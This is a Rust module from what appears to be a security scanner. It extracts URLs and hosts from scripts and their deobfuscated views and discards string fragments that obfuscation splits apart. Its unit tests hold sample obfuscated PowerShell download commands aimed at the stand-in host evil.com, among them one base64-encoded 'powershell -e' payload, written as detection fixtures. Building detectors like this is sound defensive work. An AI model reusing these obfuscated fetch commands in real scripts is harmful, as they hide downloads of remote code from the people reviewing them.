//! [`TextIndicators`]: the indicators of a text together with its views.

use super::kind::IndicatorKind;
use super::scan::{Indicator, scan};
use crate::ordered::{OrderedMap, OrderedSet};
use crate::script::{self, View};

/// The indicators of a text and of its views.
#[derive(Debug, Default)]
pub(crate) struct TextIndicators {
    /// Each indicator with the view in which it was found first; `None` for the text itself.
    pub(crate) found: OrderedMap<Indicator, Option<String>>,
    /// Some were left out past [`TEXT_INDICATORS`](crate::limits::TEXT_INDICATORS).
    pub(crate) is_limited: bool,
}

impl TextIndicators {
    /// Reads a text, and its views if it is short enough for them and `with_views` says so.
    pub(crate) fn new(text: &str, with_views: bool) -> Self {
        let views = if with_views { script::searched_views(text) } else { Vec::new() };
        Self::of_views(text, &views)
    }

    /// Reads a text and these views of it.
    ///
    /// A piece of an indicator that a view joins, such as `http://ev` of `'http://ev'+'il.net'`, is left out: it is no
    /// value of the plain view, and part of one.
    fn of_views(text: &str, views: &[View]) -> Self {
        let mut all = Self::default();
        let mut scans = Vec::with_capacity(views.len() + 1);
        for (name, text) in [(None, text)]
            .into_iter()
            .chain(views.iter().map(|view| (Some(&*view.name), &*view.text)))
        {
            let (found, is_limited) = scan(text);
            all.is_limited |= is_limited;
            scans.push((name, found));
        }
        let length = text.len() + views.iter().map(|view| view.text.len()).sum::<usize>();
        let mut budget = length.saturating_mul(COMPARED_FACTOR);
        for (name, found) in &scans {
            let plain = match name {
                None => "plain".to_owned(),
                // A plain view has its own pieces beside what they are joined to.
                Some(name) if name.ends_with("plain") => (*name).to_owned(),
                Some(name) => format!("{name} plain"),
            };
            let plain = scans.iter().find(|(name, _)| *name == Some(&plain));
            let joined = plain.map(|(_, plain)| Joined::new(plain));
            for indicator in found.iter() {
                let is_piece =
                    joined.as_ref().is_some_and(|joined| joined.has_around(indicator, &mut budget));
                if !is_piece {
                    all.found.entry(indicator.clone()).or_insert(name.map(str::to_owned));
                }
            }
        }
        all
    }
}

/// Bytes that are compared for each byte of a text and its views. Past this bound pieces are not recognised as such.
const COMPARED_FACTOR: usize = 64;

/// The values of a plain view.
struct Joined<'a> {
    found: &'a OrderedSet<Indicator>,
    values: String,
}

impl<'a> Joined<'a> {
    fn new(found: &'a OrderedSet<Indicator>) -> Self {
        let mut values = String::new();
        for indicator in found.iter() {
            values.push_str(&indicator.value);
            values.push('\n');
        }
        Self { found, values }
    }

    /// Whether an indicator is none of the view's, but part of one. A host without a dot is also a part if a longer name
    /// begins with it: the text that is joined may be in the view too, as `$a = 'http://ev'` is.
    fn has_around(&self, indicator: &Indicator, budget: &mut usize) -> bool {
        if self.values.len() > *budget {
            return false;
        }
        let value = &indicator.value;
        let is_known = self.found.contains(indicator);
        let is_short = matches!(indicator.kind, IndicatorKind::Url | IndicatorKind::Host)
            && !value
                .trim_start_matches(char::is_alphanumeric)
                .trim_start_matches("://")
                .contains(['.', '/']);
        if is_known && !is_short {
            return false;
        }
        *budget -= self.values.len();
        let goes_on = |(at, _): (usize, &str)| {
            let after = self.values.as_bytes().get(at + value.len());
            after.is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'.')
        };
        match is_known {
            true => self.values.match_indices(value.as_str()).any(goes_on),
            false => self.values.contains(value),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> Vec<(String, String)> {
        let found = TextIndicators::new(text, true).found;
        let row = |(own, view): (&Indicator, &Option<String>)| {
            (own.value.clone(), view.clone().unwrap_or_else(|| "original".to_owned()))
        };
        found.iter().map(row).collect()
    }

    fn rows(rows: &[(&str, &str)]) -> Vec<(String, String)> {
        rows.iter().map(|(value, view)| ((*value).to_owned(), (*view).to_owned())).collect()
    }

    #[test]
    fn pieces_that_a_view_joins_are_none() {
        assert_eq!(
            shown("iwr ('http://ev'+'il.com/a.ps1')"),
            rows(&[("http://evil.com/a.ps1", "plain"), ("evil.com", "plain")])
        );
        assert_eq!(
            shown("$a = 'http://ev'; $b = 'il.'+'com/x'; iwr ($a + $b) # http://other.com/"),
            rows(&[
                ("http://evil.com/x", "plain"),
                ("http://other.com/", "original"),
                ("evil.com", "plain"),
                ("il.com", "plain"),
                ("other.com", "original"),
            ])
        );
    }

    #[test]
    fn values_of_layers_name_their_layer() {
        // iwr ('http://evil'+'.com/')
        let packed = "aQB3AHIAIAAoACcAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACcAKwAnAC4AYwBvAG0ALwAnACkA";
        assert_eq!(
            shown(&format!("powershell -e {packed}; ping 10.9.8.7")),
            rows(&[
                ("http://evil.com/", "layer 1 plain"),
                ("evil.com", "layer 1 plain"),
                ("10.9.8.7", "original"),
            ])
        );
        assert_eq!(TextIndicators::new(&format!("powershell -e {packed}"), false).found.len(), 0);
    }
}
